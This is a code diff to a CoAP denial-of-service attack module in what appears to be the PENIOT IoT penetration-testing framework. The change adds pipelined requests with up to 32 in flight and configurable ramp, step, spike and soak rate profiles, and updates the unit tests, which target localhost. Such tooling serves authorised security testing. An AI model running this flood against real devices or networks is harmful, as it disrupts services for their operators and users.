@@ -4,11 +4,11 @@ import signal
 import time
 import unittest
 
-from coapthon.client.helperclient import HelperClient
-
 from Entity.attack import Attack
 from Entity.input_format import InputFormat
+from Utils.RateUtil.rate_limiter import RateLimiter, create_profile
 from protocols import CoAP as PeniotCoAP
+from protocols.CoAP.coap_pipelined_client import CoAPPipelinedClient
 
 
 class CoAPDoSAttack(Attack):
@@ -26,27 +26,38 @@ class CoAPDoSAttack(Attack):
     method_string = PeniotCoAP.get_coap_methods_as_string(PeniotCoAP.CoAPMethods.GET)
     payload = None
     timeout = 0.01
+    window_size = 32
+    rate_profile = ""  # Overrides timeout, e.g. ramp:0:20000:60
 
     # Miscellaneous Members
     logger = None
     sent_message_count = 0  # Transmitted fuzzing packets
     stopped_flag = False
+    rate_limiter = None
 
     def __init__(self):
-        default_parameters = ["", "", "", "", "", 10.0]
+        default_parameters = ["", "", "", "", "", 10.0, 32, ""]
         inputs = [
             InputFormat("Host Name", "host", "", str, mandatory=True),
             InputFormat("Port Number", "port", "", int, mandatory=True),
             InputFormat("Endpoint", "path", "", str, mandatory=True),
             InputFormat("Method", "method_string", self.method_string, str, mandatory=True),
             InputFormat("Payload", "payload", "", str, mandatory=True),
-            InputFormat("Timeout", "timeout", self.timeout, float)
+            InputFormat("Timeout", "timeout", self.timeout, float),
+            InputFormat("Window Size", "window_size", self.window_size, int),
+            InputFormat("Rate Profile", "rate_profile", self.rate_profile, str)
         ]
 
         Attack.__init__(self, "CoAP DoS Attack", inputs, default_parameters,
                         "    We send CoAP requests to the client.\n"
                         "    The time difference between those requests\n"
-                        "    can be specified.")
+                        "    can be specified. Up to window size\n"
+                        "    requests are in flight at the same time.\n"
+                        "    Rate profile can be a constant rate or\n"
+                        "    ramp:<start>:<end>:<ramp duration>,\n"
+                        "    step:<start>:<step>:<step duration>[:<max>],\n"
+                        "    spike:<base>:<spike>:<period>:<spike duration>\n"
+                        "    or soak:<rate>:<duration>.")
 
         logging.basicConfig(level=logging.DEBUG, format="%(asctime)s:%(levelname)s:%(name)s:%(message)s")
 
@@ -58,25 +69,42 @@ class CoAPDoSAttack(Attack):
 
     def stop_attack(self):
         self.logger.info("Sent message count: {0}, exitting...".format(self.sent_message_count))
-        self.stopped_flag = True
-        if self.client is not None:
-            self.client.stop()
+        self.stopped_flag = True  # Client is closed by the attack loop once it sees the flag
         time.sleep(2)  # Sleep two seconds so the user can see the message
 
     def pre_attack_init(self):
-        self.client = HelperClient(server=(self.host, self.port))
+        self.client = CoAPPipelinedClient((self.host, self.port), window_size=self.window_size,
+                                          metrics=self.metrics)
         self.method = PeniotCoAP.get_coap_methods_by_name(self.method_string)
+        # Timeout between requests is used as the rate unless a rate profile is given
+        self.rate_limiter = RateLimiter(create_profile(self.rate_profile, 1. / self.timeout if self.timeout > 0 else 0))
+
+    def response_callback(self, response, round_trip_time):
+        if response is None:
+            self.logger.debug("Request timed out.")
+        else:
+            self.logger.info("Received message = {0}".format(str(response)))
 
     def run(self):
         super(CoAPDoSAttack, self).run()
         self.pre_attack_init()
 
-        # Start client loop for requests
+        # Start client loop for requests, responses are matched in the background of the window
+        self.rate_limiter.start()
         while self.stopped_flag is False:
-            self.sent_message_count += 1
-            response = PeniotCoAP.make_request(self.client, self.path, self.method, self.payload)
-            self.logger.info("Received message = {0}".format(str(response.line_print)))
-            time.sleep(self.timeout)
+            # Wait in short slices so that the stop flag is still checked at low rates
+            if not self.rate_limiter.acquire(max_wait=0.1):
+                if self.rate_limiter.is_finished():
+                    break
+                continue
+            if self.client.request(self.method, self.path, self.payload, self.response_callback):
+                self.sent_message_count += 1
+
+        self.logger.info("Responses = {0}, timed out requests = {1}.".format(self.client.response_count,
+                                                                             self.client.timeout_count))
+        self.client.stop()
+        self.client = None
+        self.metrics.finish()
 
 
 class TestCoAPDoSAttack(unittest.TestCase):
@@ -93,7 +121,7 @@ class TestCoAPDoSAttack(unittest.TestCase):
         inputs = self.coap_dos_attack.get_inputs()
         self.assertIsNotNone(inputs)
         self.assertGreater(len(inputs), 0, "Non inserted inputs")
-        self.assertEquals(len(inputs), 6)
+        self.assertEquals(len(inputs), 8)
 
     def test_non_initialized_inputs(self):
         inputs = self.coap_dos_attack.get_inputs()
@@ -102,7 +130,7 @@ class TestCoAPDoSAttack(unittest.TestCase):
             self.assertTrue(value is None or type(value) == _input.get_type())
 
     def test_after_getting_inputs(self):
-        example_inputs = ["a.b.c.d", 8888, "peniot-coap-test", "pOst", "peniot", 13.2]
+        example_inputs = ["a.b.c.d", 8888, "peniot-coap-test", "pOst", "peniot", 13.2, 16, "step:100:100:1:500"]
         for index, _input in enumerate(example_inputs):
             self.coap_dos_attack.inputs[index].set_value(_input)
 
@@ -118,7 +146,7 @@ class TestCoAPDoSAttack(unittest.TestCase):
 
     def test_dos_attack(self):
         def run_attack():
-            example_inputs = ["127.0.0.1", 5683, "peniot", "get", "peniot", 0.01]
+            example_inputs = ["127.0.0.1", 5683, "peniot", "get", "peniot", 0.01, 32, ""]
             for index, _input in enumerate(example_inputs):
                 self.coap_dos_attack.inputs[index].set_value(_input)
 